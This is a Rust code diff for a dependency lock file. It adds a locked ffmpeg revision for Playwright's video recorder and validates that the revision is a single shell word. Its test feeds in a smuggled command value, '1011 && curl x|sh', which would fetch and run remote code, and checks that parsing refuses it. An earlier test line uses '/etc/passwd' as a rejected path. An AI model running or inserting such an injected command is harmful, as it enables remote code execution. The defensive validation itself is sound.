@@ -27,6 +27,19 @@ pub struct Lock {
     /// The session runtime binary, when the spec names one.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub session_runtime: Option<LockedFile>,
+    /// Where Playwright's video recorder runs ffmpeg from, when the spec asks for one.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub video_recorder: Option<LockedVideoRecorder>,
+}
+
+/// The video recorder, resolved: Playwright runs
+/// `<browsers>/ffmpeg-<revision>/ffmpeg-linux`, the revision named by the
+/// locked playwright-core's browsers.json.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct LockedVideoRecorder {
+    /// The ffmpeg revision from playwright-core/browsers.json.
+    pub ffmpeg_revision: String,
 }
 
 /// The Node tarball.
@@ -190,7 +203,7 @@ impl Lock {
 
     /// Refuses what `lock` never writes: a package name that is not an npm name (it
     /// becomes a directory), a version that is not exact, a tarball that is not an http(s)
-    /// URL, a Chromium package or revision that is not one shell word (they go into `RUN`),
+    /// URL, a Chromium package or revision or an ffmpeg revision that is not one shell word (they go into `RUN`),
     /// an executable path that is not absolute and clean, more packages than the limit.
     pub fn check_untrusted(&self, origin: &str) -> Result<(), UnsafeInput> {
         let refuse = |field: String, value: &str, violation| {
@@ -243,6 +256,9 @@ impl Lock {
                 check("chromium.executablePath", executable_path, untrusted::absolute_path)?;
             }
         }
+        if let Some(video) = &self.video_recorder {
+            check("videoRecorder.ffmpegRevision", &video.ffmpeg_revision, untrusted::token)?;
+        }
         Ok(())
     }
 
@@ -293,6 +309,7 @@ pub(crate) mod fixtures {
             ],
             chromium: LockedChromium::Distribution { package: "chromium".into(), executable_path: None },
             session_runtime: None,
+            video_recorder: None,
         }
     }
 }
@@ -332,6 +349,13 @@ mod tests {
         let err = refused("\"binPath\": \"package/bin/node\"", "\"binPath\": \"/etc/passwd\"");
         assert!(err.contains("`node.binPath`") && err.contains("absolute path"), "{err}");
         assert!(err.contains("run `lock` again from the spec"), "{err}");
+        let mut with_video = fixtures::lock_with(b"n", b"c", b"p", b"k");
+        with_video.video_recorder = Some(LockedVideoRecorder { ffmpeg_revision: "1011".into() });
+        let text = with_video.to_canonical_json();
+        assert_eq!(Lock::parse(&text, "t").unwrap().video_recorder, with_video.video_recorder);
+        let hostile = text.replacen("\"ffmpegRevision\": \"1011\"", "\"ffmpegRevision\": \"1011 && curl x|sh\"", 1);
+        let err = Lock::parse(&hostile, "x.lock.json").unwrap_err().to_string();
+        assert!(err.contains("`videoRecorder.ffmpegRevision`"), "{err}");
     }
 
     #[test]
